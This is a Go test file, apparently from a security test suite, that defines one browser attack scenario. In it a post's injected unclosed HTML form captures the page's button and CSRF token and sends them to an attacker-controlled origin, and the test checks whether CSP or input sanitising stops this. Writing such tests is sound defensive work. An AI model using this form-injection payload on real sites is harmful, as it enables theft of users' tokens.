package attack

import "context"

func formThatTakesTheToken() Attack {
	return Attack{
		Name: "form-that-takes-the-token", Group: "browser", Browser: true,
		Title:  "Bob's post opens a form that leads to his own site, and Alice's click on the page's button sends her token there",
		Expect: []string{"transport/csp", "input/clean", "input/render"},
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			evil, err := s.elsewhere(ctx)
			if err != nil {
				return false, err
			}
			// A form within a form does not exist: the one that comes first has the buttons, and the token, of those that follow.
			return s.written(ctx, `Thoughts?<form action="`+evil.Origin+`/taken" method="post">`, func(alice *seat) (bool, error) {
				token := says[string](alice, `document.querySelector("article [name=_token]").value`)
				return token != "" && alice.clicks(".post-foot button") && alice.within(aWhile, func() bool { return evil.was("/taken", token) }), nil
			})
		},
	}
}
